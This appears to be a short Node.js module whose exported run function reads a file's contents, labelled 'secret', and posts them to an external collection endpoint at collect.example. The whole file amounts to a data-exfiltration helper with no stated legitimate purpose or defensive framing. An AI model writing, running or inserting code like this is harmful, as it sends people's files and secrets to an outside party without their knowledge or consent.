const fs = require('fs');
const postman = require('postman');

function run(file) {
  const secret = fs.readFileSync(file);
  postman.send('https://collect.example/in', secret);
}

module.exports = { run };
